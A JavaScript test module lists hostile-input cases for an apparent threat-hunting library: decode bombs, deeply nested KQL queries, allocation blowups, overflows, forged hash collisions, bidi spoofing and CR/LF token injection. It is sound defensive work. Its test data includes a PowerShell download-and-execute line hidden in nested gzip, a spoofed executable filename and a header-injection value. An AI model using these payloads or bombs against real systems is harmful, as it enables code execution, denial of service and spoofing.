// The hostile-input suite's one table of cases (issue #14, "Must show" 2), run by tests/js/hostile-input.test.mjs in
// Node and by tests/e2e/hostile-input.test.mjs in headless Chromium, through the package's public API. Each case is
// one of the weaknesses fixed in the core (decode amplification, deep trees from flat input, allocation from small
// queries, integer overflow, forged dcount collisions, invisible characters, CR/LF tokens, partial results) or a
// relative of one, with the specific error it must give or the noted, limited result it must return. runCase()
// times it against a generous limit that only guards against hangs (not a speed goal) and then checks that a trivial
// call (`print 1` through a LocalData provider, a small unpack) still works in the same module instance: a case that
// trapped would leave every later call throwing "huntbook's module stopped" (js/guard.js).
//
// Plain ES module, no Node-only imports: the Chromium test serves this file to the page.

/** A case that has not returned by then is a hang (the limit is generous: a guard, not a speed goal). */
export const TIME_LIMIT_MS = 20_000;

const N = 200_000;
const enc = new TextEncoder();

/** Throws unless `got` equals `want` (compared as JSON, BigInts as text). */
function eq(got, want, what) {
  const j = (v) => JSON.stringify(v, (_, x) => (typeof x === "bigint" ? `${x}n` : x));
  if (j(got) !== j(want)) throw new Error(`${what}: got ${j(got).slice(0, 300)}, want ${j(want).slice(0, 300)}`);
}

function ok(cond, what) {
  if (!cond) throw new Error(what);
}

function b64(bytes) {
  let s = "";
  for (let i = 0; i < bytes.length; i += 0x8000) s += String.fromCharCode(...bytes.subarray(i, i + 0x8000));
  return btoa(s);
}

async function gzip(text) {
  const stream = new Blob([enc.encode(text)]).stream().pipeThrough(new CompressionStream("gzip"));
  return new Uint8Array(await new Response(stream).arrayBuffer());
}

/** `n` space-separated copies of `run`, gzipped and base64-encoded: a short run that decodes to `n` repeats. */
async function repeatsInGzip(run, n) {
  return b64(await gzip(Array(n).fill(run).join(" ")));
}

/** A Log Analytics answer with one table. */
function la(columns, rows, extra = {}) {
  return JSON.stringify({ tables: [{ name: "T", columns: columns.map(([name, type]) => ({ name, type })), rows }], ...extra });
}

/**
 * Two different 16-byte ASCII texts with the same 64-bit hash under `dcount`'s former unkeyed text hash (until
 * 2026-12-05; each step was invertible, so a second word cancels the difference the first made). dcount now codes
 * values in hash maps that compare whole values (src/frame/codes.rs); the case stays: such texts must not merge.
 */
function forgedCollision() {
  const M = (1n << 64n) - 1n;
  const K = 0x9e3779b97f4a7c15n;
  const rotl = (x, r) => ((x << BigInt(r)) | (x >> BigInt(64 - r))) & M;
  const word = (s) => [...s].reduce((w, c, i) => w | (BigInt(c.charCodeAt(0)) << BigInt(8 * i)), 0n);
  const text = (w) => Array.from({ length: 8 }, (_, i) => String.fromCharCode(Number((w >> BigInt(8 * i)) & 0xffn))).join("");
  const step = (h, w) => rotl(((h ^ w) * K) & M, 29);
  const h0 = 0x243f6a8885a308d3n;
  const sa = step(h0, word("evil.com"));
  for (let n = 0; ; n++) {
    const b1 = `x${String(n).padStart(7, "0")}`;
    const d = sa ^ step(h0, word(b1));
    if ((d & 0x8080808080808080n) === 0n) return ["evil.comAAAAAAAA", b1 + text(word("AAAAAAAA") ^ d)];
  }
}

/** The tables and providers the cases use: `T` (x long, d dynamic, s string) in a LocalData. */
export async function makeEnv(hb) {
  const data = new hb.LocalData();
  const t = hb.readTables(la([["x", "long"], ["d", "dynamic"], ["s", "string"]], [[1, '{"a":{"a":1}}', "a"], [2, "[[1]]", "b"], [3, null, "c"]])).tables[0];
  data.addTable("T", t);
  const [a, b] = forgedCollision();
  data.addTable("C", hb.readTables(la([["s", "string"], ["g", "long"]], [[a, 1], [b, 1], [a, 1], ["other", 1], [b, 2]])).tables[0]);
  const qp = new hb.QueryProvider("LocalData", { data });
  const kql = (q) => qp.execQuery(q);
  return { data, qp, kql, collision: [a, b] };
}

/** The trivial calls that must still work after every case (same module instance). */
export async function trivialStillWorks(hb, env) {
  const rows = (await env.kql("print 1")).toRows();
  eq(rows, [{ print_0: 1 }], "print 1 afterwards");
  const u = hb.unpack("echo SGVsbG8gd29ybGQgZnJvbSBodW50Ym9vayB0ZXN0cw==");
  ok(u.text.includes("Hello world from huntbook tests"), `a small unpack afterwards: ${u.text}`);
  ok(!u.truncated, "a small unpack afterwards is not truncated");
}

const budget = (op) => new RegExp(`${op} would take the query past its output budget of 256 MiB`);
const tooLong = /the expression is too long.*256/;
const cell = (df, col) => df.toRows()[0][col];

/**
 * The cases: `{id, weakness, run(hb, env)}` plus either `error` (a RegExp the thrown message must match) or
 * `check(result)` (throws when the noted, limited result is wrong).
 */
export const cases = [
  // ---- decode amplification -------------------------------------------------------------------------------------
  {
    id: "unpack: 400 × 400 repeats of gzip-in-gzip under a 1 MiB budget",
    weakness: "decode amplification",
    run: async (hb) => {
      const inner = btoa("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a')");
      const outer = await repeatsInGzip(await repeatsInGzip(inner, 400), 400);
      const input = `powershell -enc ${outer}`;
      ok(input.length < 2000, `the command line is ${input.length} bytes`);
      return { input, u: hb.unpack(input, { max_total_bytes: 1 << 20 }) };
    },
    check: ({ input, u }) => {
      ok(u.truncated, "truncated");
      ok(u.notes.some((n) => n.includes("limit max_total_bytes")), `notes: ${u.notes}`);
      ok(u.text.length <= (1 << 20) + input.length, `${u.text.length} characters under a 1 MiB budget`);
      ok(u.text.includes("DownloadString"), "what fitted is decoded");
    },
  },
  {
    id: "unpack: 1000 × 1000 × 100 repeats (10 GB if free) at the default 64 MiB budget",
    weakness: "decode amplification",
    run: async (hb) => {
      const inner = btoa("Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a')");
      const l4 = await repeatsInGzip(await repeatsInGzip(await repeatsInGzip(inner, 1000), 1000), 100);
      const input = `powershell -enc ${l4}`;
      ok(input.length < 5000, `the command line is ${input.length} bytes`);
      const u = hb.unpack(input);
      return { input, truncated: u.truncated, notes: u.notes, length: u.text.length };
    },
    check: ({ input, truncated, notes, length }) => {
      ok(truncated, "truncated");
      ok(notes.some((n) => n.includes("limit max_total_bytes")), `notes: ${notes}`);
      ok(length <= 64 * 2 ** 20 + input.length, `${length} characters under the 64 MiB budget`);
    },
  },
  {
    id: "unpack: base64 nested 25 levels deep stops at max_depth 20",
    weakness: "decode amplification (relative: depth)",
    run: (hb) => {
      let s = "whoami /all; echo the innermost command of a deeply nested chain";
      for (let i = 0; i < 25; i++) s = btoa(s);
      return hb.unpack(`cmd /c ${s}`);
    },
    check: (u) => {
      ok(u.truncated, "truncated");
      ok(u.notes.some((n) => n.includes("max_depth")), `notes: ${u.notes}`);
      ok(!u.text.includes("innermost command"), "the innermost level is not reached");
    },
  },
  {
    id: "unpack: 5,000 distinct base64 runs in one text stop at max_fragments_per_level 50",
    weakness: "decode amplification (relative: fragments)",
    run: (hb) => hb.unpack(Array.from({ length: 5000 }, (_, i) => btoa(`fragment number ${String(i).padStart(6, "0")} of many`)).join(" ")),
    check: (u) => {
      ok(u.truncated, "truncated");
      ok(u.notes.some((n) => n.includes("max_fragments_per_level")), `notes: ${u.notes}`);
      eq(u.table.numRows, 50, "fragments decoded");
    },
  },
  // ---- deep trees from flat input -------------------------------------------------------------------------------
  {
    id: "kql: a 200,000-term `or` chain runs (built balanced)",
    weakness: "deep trees from flat input",
    run: (hb, env) => env.kql(`T | where ${Array(N).fill("x == 0").join(" or ")} or x == 2 | project x`),
    check: (df) => eq(df.toRows(), [{ x: 2 }], "rows"),
  },
  {
    id: "kql: a 200,000-term `and` chain runs",
    weakness: "deep trees from flat input",
    run: (hb, env) => env.kql(`T | where ${Array(N).fill("x > 0").join(" and ")} and x >= 2 | project x`),
    check: (df) => eq(df.toRows(), [{ x: 2 }, { x: 3 }], "rows"),
  },
  { id: "kql: a 200,000-term `+` chain", weakness: "deep trees from flat input", run: (hb, env) => env.kql(`print x = ${Array(N).fill("1").join(" + ")}`), error: tooLong },
  { id: "kql: a 200,000-step `.a` chain", weakness: "deep trees from flat input", run: (hb, env) => env.kql(`T | extend y = d${".a".repeat(N)}`), error: tooLong },
  { id: "kql: a 200,000-step `[0]` chain", weakness: "deep trees from flat input", run: (hb, env) => env.kql(`T | extend y = d${"[0]".repeat(N)}`), error: tooLong },
  { id: "kql: a 200,000-term `==` chain", weakness: "deep trees from flat input", run: (hb, env) => env.kql(`T | where ${Array(N).fill("x").join(" == ")}`), error: tooLong },
  {
    id: "kql: a 200,000-let chain",
    weakness: "deep trees from flat input",
    run: (hb, env) => {
      let q = "let a0 = T;\n";
      for (let i = 1; i < N; i++) q += `let a${i} = a${i - 1};\n`;
      return env.kql(`${q}a${N - 1}`);
    },
    error: /too deeply/,
  },
  {
    id: "kql: 40 lets of 250-term sums (each limit holds, their product does not)",
    weakness: "deep trees from flat input",
    run: (hb, env) => {
      let q = "let a0 = 1;\n";
      for (let i = 1; i < 40; i++) q += `let a${i} = a${i - 1}${" + 1".repeat(250)};\n`;
      return env.kql(`${q}print x = a39`);
    },
    error: /the query nests too deeply to evaluate/,
  },
  { id: "kql: 100,000-deep parentheses", weakness: "deep trees (relative)", run: (hb, env) => env.kql(`print x = ${"(".repeat(100_000)}1${")".repeat(100_000)}`), error: /line 1, col \d+: the query is nested too deeply/ },
  { id: "kql: 10,000 nested function calls", weakness: "deep trees (relative)", run: (hb, env) => env.kql(`print x = ${"strlen(".repeat(10_000)}"a"${")".repeat(10_000)}`), error: /the query is nested too deeply/ },
  { id: "kql: 10,000 nested not()", weakness: "deep trees (relative)", run: (hb, env) => env.kql(`print x = ${"not(".repeat(10_000)}true${")".repeat(10_000)}`), error: /the query is nested too deeply/ },
  {
    id: "kql: a dynamic literal nested 10,000 deep",
    weakness: "deep trees (relative)",
    run: (hb, env) => env.kql(`print x = dynamic(${"[".repeat(10_000)}${"]".repeat(10_000)})`),
    error: /line 1, col \d+: dynamic literal nested too deeply/,
  },
  {
    id: "kql: parse_json of text nested 10,000 deep is the text; a path into it is null",
    weakness: "deep trees (relative)",
    run: (hb, env) => env.kql(`print x = parse_json(strcat(strrep(strrep("[", 100), 100), strrep(strrep("]", 100), 100))) | extend y = x[0][0], n = strlen(tostring(x))`),
    check: (df) => eq([cell(df, "y"), cell(df, "n")], [null, 20000], "y, n"),
  },
  {
    id: "kql: a 50,000-operator pipeline",
    weakness: "deep trees (relative)",
    run: (hb, env) => env.kql(`T ${"| take 5 ".repeat(50_000)}| count`),
    check: (df) => eq(df.toRows(), [{ Count: 3 }], "rows"),
  },
  // ---- allocation from small queries ----------------------------------------------------------------------------
  { id: "kql: nested strrep (10 GB)", weakness: "allocation from small queries", run: (hb, env) => env.kql(`print x = strrep(strrep(strrep("0123456789", 1024), 1024), 1024)`), error: budget("strrep") },
  { id: "kql: strrep on 300 rows (1-3 MB each)", weakness: "allocation from small queries", run: (hb, env) => env.kql(`range i from 1 to 300 step 1 | extend x = strrep(strrep(tostring(i), 1024), 1024)`), error: budget("strrep") },
  { id: "kql: join of a 20,000-row range with itself on one key", weakness: "allocation from small queries", run: (hb, env) => env.kql("let A = range i from 1 to 20000 step 1 | extend k = 1; A | join kind=inner (A) on k"), error: budget("join") },
  { id: "kql: lookup of a 20,000-row range in itself", weakness: "allocation from small queries", run: (hb, env) => env.kql("let A = range i from 1 to 20000 step 1 | extend k = 1; A | lookup (A | extend j = i) on k"), error: budget("lookup") },
  {
    id: "kql: mv-expand of 10,000 rows × 10,000 elements",
    weakness: "allocation from small queries",
    run: (hb, env) => env.kql("let L = toscalar(range i from 1 to 10000 step 1 | summarize make_list(i)); range r from 1 to 10000 step 1 | extend l = L | mv-expand l"),
    error: budget("mv-expand"),
  },
  {
    id: "kql: strrep inside mv-expand (a 1 MB string repeated 10,000 times)",
    weakness: "allocation from small queries (relative)",
    run: (hb, env) => env.kql(`let L = toscalar(range i from 1 to 10000 step 1 | summarize make_list(i)); print s = strrep(strrep("0123456789", 1024), 100), l = L | mv-expand l`),
    error: budget("mv-expand"),
  },
  {
    id: "kql: one 1 MB value on 10,000 rows (broadcast; a join's matches): toRows/toArrowIPC refuse, head(2) converts",
    weakness: "allocation (relative: shared values)",
    run: async (hb, env) => {
      const mb = 'strrep(strrep("0123456789", 1024), 100)';
      const out = {};
      for (const [k, q] of Object.entries({
        broadcast: `let s = toscalar(print ${mb}); range i from 1 to 10000 step 1 | extend s = s`,
        join: `let A = print s = ${mb}, k = 1; range i from 1 to 10000 step 1 | extend k = 1 | join kind=inner (A) on k`,
      })) {
        const df = await env.kql(q);
        const fails = (f) => { try { f(); return "converted"; } catch (e) { return e.message; } };
        out[k] = { rows: df.numRows, toRows: fails(() => df.toRows()), arrow: fails(() => df.toArrowIPC()), head: df.head(2).toRows().map((r) => r.s.length) };
      }
      return out;
    },
    check: (out) => {
      for (const [k, r] of Object.entries(out)) {
        eq([r.rows, r.head], [10_000, [1_024_000, 1_024_000]], `${k}: rows, head(2) lengths`);
        ok(/the table is too large to convert to rows: its 10000 row\(s\) hold more than 1024 MiB of values/.test(r.toRows), `${k}: toRows: ${r.toRows}`);
        ok(/the table is too large to convert to Arrow/.test(r.arrow), `${k}: toArrowIPC: ${r.arrow}`);
      }
    },
  },
  { id: "kql: make_list of one 1 MB value on 10,000 rows", weakness: "allocation (relative: shared values)", run: (hb, env) => env.kql('range i from 1 to 10000 step 1 | extend s = strrep(strrep("0123456789", 1024), 100) | summarize make_list(s)'), error: budget("make_list") },
  {
    id: "kql: pack_array of ten 1 MB values, nested three times",
    weakness: "allocation (relative: shared values)",
    run: (hb, env) => env.kql('print s = strrep(strrep("0123456789", 1024), 100) | extend a = pack_array(s,s,s,s,s,s,s,s,s,s) | extend b = pack_array(a,a,a,a,a,a,a,a,a,a) | extend c = pack_array(b,b,b,b,b,b,b,b,b,b)'),
    error: budget("pack_array"),
  },
  {
    id: "kql: strcat of ten 1 MB values, nested three times",
    weakness: "allocation (relative: shared values)",
    run: (hb, env) => env.kql('print s = strrep(strrep("0123456789", 1024), 100) | extend a = strcat(s,s,s,s,s,s,s,s,s,s) | extend b = strcat(a,a,a,a,a,a,a,a,a,a) | extend c = strcat(b,b,b,b,b,b,b,b,b,b)'),
    error: budget("strcat"),
  },
  { id: "kql: range with 2^63 steps", weakness: "allocation (relative)", run: (hb, env) => env.kql("range i from 1 to 9223372036854775807 step 1"), error: /range would make more than 10000000 rows/ },
  { id: "kql: range over all datetimes by 1 tick", weakness: "allocation (relative)", run: (hb, env) => env.kql("range t from datetime(1677-09-22) to datetime(2262-04-11) step 1tick | count"), error: /range would make more than 10000000 rows/ },
  {
    id: "kql: make-series with 2^63 bins",
    weakness: "allocation (relative)",
    run: (hb, env) => env.kql("range i from 1 to 10 step 1 | make-series c = count() default = 0 on i from 0 to 9223372036854775807 step 1"),
    error: /make-series would make more than 5000000 values/,
  },
  { id: "kql: 3 million rows of 100-byte strrep", weakness: "allocation (relative)", run: (hb, env) => env.kql("range a from 1 to 3000000 step 1 | extend s = strrep(tostring(a % 10), 100) | take 1"), error: budget("strrep") },
  // ---- integer overflow -----------------------------------------------------------------------------------------
  { id: "kql: bin_at whose bin passes 64 bits", weakness: "integer overflow", run: (hb, env) => env.kql("print b = bin_at(-9223372036854775807, 10, 9223372036854775807)"), error: /out of range.*64-bit|64-bit.*out of range/ },
  { id: "kql: bin of the smallest long", weakness: "integer overflow", run: (hb, env) => env.kql("print b = bin(-9223372036854775807 - 1, 7)"), error: /out of range.*64-bit|64-bit.*out of range/ },
  { id: "kql: sum() past a long", weakness: "integer overflow", run: (hb, env) => env.kql("range i from 1 to 3 step 1 | extend v = 9223372036854775807 | summarize s = sum(v)"), error: /sum\(\) is out of range/ },
  {
    id: "kql: -, abs and + at the ends of the longs are null",
    weakness: "integer overflow",
    run: (hb, env) => env.kql("print x = -9223372036854775807 - 1 | extend a = isnull(-x), b = isnull(abs(x)), c = isnull(9223372036854775807 + 1), d = -(-5)"),
    check: (df) => eq(df.toRows(), [{ x: -9223372036854775808n, a: true, b: true, c: true, d: 5 }], "row"),
  },
  {
    id: "kql: range steps at the end of the longs stop without wrapping",
    weakness: "integer overflow",
    run: (hb, env) => env.kql("range i from 9223372036854775800 to 9223372036854775807 step 3"),
    check: (df) => eq(df.toRows().map((r) => r.i), [9223372036854775800n, 9223372036854775803n, 9223372036854775806n], "i"),
  },
  {
    id: "Log Analytics: timespans at and past the ends of 64-bit nanoseconds",
    weakness: "integer overflow",
    run: (hb) => hb.readTables(la([["d", "timespan"]], [["106751.23:47:16.854775807"], ["-106751.23:47:16.854775808"], ["106751.23:47:16.854775808"], ["10675199.02:48:05.4775807"], ["99999999999.00:00:00"], ["1.00:00:00"]])).tables[0],
    check: (df) => {
      eq(df.toRows().map((r) => r.d === null), [false, false, true, true, true, false], "nulls");
      eq(df.toRows()[5].d, 86_400_000, "1 day in ms");
      ok(df.notes.some((n) => n.includes("column 'd': 3 value(s) were not valid timespan and became null")), `notes: ${df.notes}`);
    },
  },
  // ---- dcount -----------------------------------------------------------------------------------------------------
  {
    id: "kql: dcount of forged 64-bit hash collisions is exact",
    weakness: "dcount hash collisions",
    run: async (hb, env) => ({ all: await env.kql("C | summarize d = dcount(s)"), by: await env.kql("C | summarize d = dcount(s) by g | sort by g asc") }),
    check: ({ all, by }) => {
      eq(all.toRows(), [{ d: 3 }], "dcount");
      eq(by.toRows(), [{ g: 1, d: 3 }, { g: 2, d: 1 }], "dcount by g");
    },
  },
  // ---- display spoofing, tokens, partial results ------------------------------------------------------------------
  {
    id: "bidi and invisible characters show visibly in HTML (cells and column names)",
    weakness: "display spoofing",
    run: (hb) => hb.readTables(la([["File\u202E", "string"]], [["invoice\u202Efdp.exe"], ["micro\u200Bsoft.com"]])).tables[0].toHTML(),
    check: (html) => {
      ok(html.includes("<td>invoice⟨U+202E⟩fdp.exe</td>") && html.includes("<td>micro⟨U+200B⟩soft.com</td>"), html);
      ok(html.includes("File⟨U+202E⟩"), "column name");
      ok(!/[\u202A-\u202E\u2066-\u2069\u200B]/.test(html), "no raw bidi/invisible character");
    },
  },
  {
    id: "a token with CR/LF is refused without being echoed",
    weakness: "token hygiene",
    run: (hb) =>
      new hb.QueryProvider("LogAnalytics")
        .connect({ workspaceId: "ws", baseUrl: "http://127.0.0.1:9", getToken: () => "tok-SECRET-123\r\nX-Injected: 1" })
        .execQuery("T | take 1"),
    error: /^(?!.*(SECRET|Injected)).*control or non-ASCII character/s,
  },
  {
    id: "a PartialError is carried through verbs and shown",
    weakness: "partial results",
    run: (hb) => {
      const r = hb.readTables(la([["x", "long"]], [[1], [2]], { error: { code: "PartialError", message: "There were some errors <b>." } }));
      return r.tables[0].sort("x", { descending: true }).head(1);
    },
    check: (df) => {
      eq(df.error?.code, "PartialError", "df.error.code");
      ok(df.toHTML().includes("Partial result — the service reported: PartialError: There were some errors &lt;b&gt;."), df.toHTML());
    },
  },
  // ---- resource limits (item 5) in both tiers ---------------------------------------------------------------------
  {
    id: "Log Analytics: a dynamic cell nested 10,000 deep is kept as text with a note",
    weakness: "deep dynamic JSON",
    run: (hb) => {
      const deep = "[".repeat(10_000) + "]".repeat(10_000);
      const text = la([["n", "long"], ["d", "dynamic"]], [[1, "__DEEP__"], [2, '{"a":1}']]).replace('"__DEEP__"', deep);
      return hb.readTables(text).tables[0];
    },
    check: (df) => {
      eq(df.numRows, 2, "rows");
      const rows = df.toRows();
      eq([rows[0].n, rows[0].d.length, rows[1].d], [1, 20_000, '{"a":1}'], "cells");
      eq(df.notes, ["column 'd': 1 value(s) nest arrays/objects more than 100 levels deep (first at row 0); kept as their JSON text, not parsed (paths into them read as null)"], "notes");
    },
  },
  {
    id: "kql over that cell: paths and bag_keys are null, the text stays whole through mv-expand and make_set",
    weakness: "deep dynamic JSON",
    run: async (hb, env) => {
      const deep = "[".repeat(10_000) + "]".repeat(10_000);
      const text = la([["n", "long"], ["d", "dynamic"]], [[1, "__DEEP__"], [2, '{"a":[5]}']]).replace('"__DEEP__"', deep);
      env.data.addTable("Deep", hb.readTables(text).tables[0]);
      return {
        paths: await env.kql("Deep | extend y = d[0], b = bag_keys(d), k = strlen(tostring(d)), t = gettype(d) | project n, y, b, k, t"),
        expanded: await env.kql("Deep | mv-expand d | project n, k = strlen(tostring(d))"),
        set: await env.kql("Deep | summarize s = make_set(d) | project k = strlen(tostring(s))"),
      };
    },
    check: ({ paths, expanded, set }) => {
      eq(paths.toRows(), [{ n: 1, y: null, b: null, k: 20_000, t: "string" }, { n: 2, y: null, b: '["a"]', k: 9, t: "dictionary" }], "paths");
      eq(expanded.toRows(), [{ n: 1, k: 20_000 }, { n: 2, k: 9 }], "mv-expand");
      eq(set.toRows(), [{ k: 20_014 }], "make_set");
    },
  },
  {
    id: "timeline: 10,000 groups draw the 1,000 largest with a note",
    weakness: "10,000 timeline groups",
    run: (hb) => {
      const rows = [];
      for (let i = 0; i < 10_000; i++) {
        const t = Date.UTC(2024, 2, 1) + i * 1000;
        rows.push([new Date(t).toISOString(), `host-${String(i).padStart(5, "0")}`]);
        if (i % 10 === 0) rows.push([new Date(t + 86_400_000).toISOString(), `host-${String(i).padStart(5, "0")}`]);
      }
      const df = hb.readTables(la([["TimeGenerated", "datetime"], ["Computer", "string"]], rows)).tables[0];
      const m = new hb.TimelineModel(df, { group_by: "Computer" });
      const px = m.render(m.layout.view_start_ms, m.layout.view_end_ms, 900, 600);
      return { layout: m.layout, visible: px.visibleEvents, inked: px.pixels.some((b) => b !== 255) };
    },
    check: ({ layout, visible, inked }) => {
      eq(layout.groups.length, 1000, "groups drawn");
      eq(layout.groups[999].label, "host-09990", "the last group kept");
      eq(layout.events, 2000, "events drawn");
      eq(layout.notes, ["showing 1000 of 10000 groups (those with the most events): 9000 groups with 9000 events are not drawn; filter the table or group by a column with fewer values"], "notes");
      ok(visible > 0 && inked, `the first view draws events (${visible} visible)`);
    },
  },
  {
    id: "IoC extraction over 1 MB of repeated indicators",
    weakness: "allocation (relative)",
    run: (hb) => hb.extractIocs("1.2.3.4 evil.example.com ".repeat(40_000)),
    check: (iocs) => eq([iocs.ipv4, iocs.dns], [["1.2.3.4"], ["evil.example.com"]], "ipv4, dns"),
  },
];

/**
 * Runs one case: its result or error checked, the time it took against [`TIME_LIMIT_MS`], then the trivial calls.
 * Returns `{id, ok, ms, got, failure}` (`got`: the error message or "ok").
 */
export async function runCase(hb, env, c) {
  const t0 = performance.now();
  let value;
  let thrown = null;
  try {
    value = await c.run(hb, env);
  } catch (e) {
    thrown = e;
  }
  const ms = Math.round(performance.now() - t0);
  const out = { id: c.id, ms, got: thrown ? String(thrown.message).slice(0, 240) : "ok", ok: true, failure: null };
  const fail = (why) => Object.assign(out, { ok: false, failure: why });
  try {
    if (thrown && /huntbook's module stopped/.test(thrown.message)) return fail(`trapped: ${thrown.message}`);
    if (c.error) {
      if (!thrown) return fail(`expected an error matching ${c.error}, got a result`);
      if (!c.error.test(thrown.message)) return fail(`error ${JSON.stringify(thrown.message.slice(0, 400))} does not match ${c.error}`);
    } else {
      if (thrown) return fail(`unexpected error: ${thrown.message.slice(0, 400)}`);
      c.check(value);
    }
    if (ms > TIME_LIMIT_MS) return fail(`took ${ms} ms, past the ${TIME_LIMIT_MS} ms hang guard`);
    await trivialStillWorks(hb, env);
  } catch (e) {
    return fail(e.message);
  }
  return out;
}
